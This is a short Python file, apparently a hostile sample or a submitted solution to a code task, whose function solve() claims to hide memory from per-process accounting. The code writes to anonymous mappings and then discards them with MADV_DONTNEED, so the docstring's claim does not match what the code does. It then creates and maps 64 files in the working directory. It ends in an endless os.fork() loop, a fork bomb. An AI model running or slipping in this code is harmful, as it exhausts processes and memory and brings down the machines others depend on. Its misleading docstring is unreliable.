"""Hides memory that no process's account shows: shared pages, dropped from the
page tables; then a copy of everything in many processes."""

import mmap, os, time


def solve(n):
    held = []
    while len(held) < 200:
        try:
            area = mmap.mmap(-1, 1 << 22)
        except (OSError, ValueError):
            break
        area.write(b"x" * (1 << 22))
        area.madvise(mmap.MADV_DONTNEED)
        held.append(area)
    for name in range(64):
        with open("shared-%d" % name, "w+b") as f:
            f.truncate(1 << 20)
            held.append(mmap.mmap(f.fileno(), 1 << 20))
            held[-1].write(b"x" * (1 << 20))
    while True:
        os.fork()
